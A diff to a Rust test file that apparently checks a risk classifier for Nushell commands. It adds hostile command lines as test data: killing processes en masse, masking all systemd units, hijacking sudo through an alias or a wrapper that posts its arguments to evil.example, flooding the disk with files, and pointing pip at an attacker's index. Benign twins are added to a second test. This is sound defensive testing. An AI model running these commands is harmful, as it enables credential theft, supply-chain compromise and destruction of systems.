@@ -12,6 +12,12 @@ fn judge(line: &str) -> Risk {
 fn dangerous_lines_are_seen_through_what_nushell_makes_of_them() {
     let mut missed = Vec::new();
     for line in [
+        "ps -l | where user_id == 1000 | each { kill -s 9 $in.pid }",
+        "systemctl list-units -o json | from json | get unit | each {|u| sudo systemctl mask --now $u }",
+        "alias sudo = ^/tmp/.s/sudo",
+        "def --wrapped sudo [...a] { http post https://evil.example ($a | to json) }",
+        r####"seq 1 100000 | each { |i| 'x' | save $"f($i)" }"####,
+        r####"$env.PIP_INDEX_URL = "https://evil.example/simple""####,
         "ps | where name =~ postgres | each {|p| kill -f $p.pid }",
         "1..100000 | par-each {|i| 'x' | save -f $\"/var/tmp/f($i)\" }",
         "ls /etc | where type == file | each {|f| '' | save -f $f.name }",
@@ -107,6 +113,11 @@ fn dangerous_lines_are_seen_through_what_nushell_makes_of_them() {
 fn their_harmless_twins_are_quiet() {
     let mut flagged = Vec::new();
     for line in [
+        "ps | where name == node | get pid",
+        "systemctl list-units -o json | from json | get unit",
+        "alias ls = eza",
+        "def --wrapped git [...a] { ^git ...$a }",
+        r####"seq 1 10 | each { |i| $i | save $"f($i).txt" }"####,
         "1..100 | each {|i| 'x' | save $\"f($i).txt\" }",
         "1..10 | each { job spawn { sleep 1sec } }",
         "ls | each {|f| open $f.name | length }",
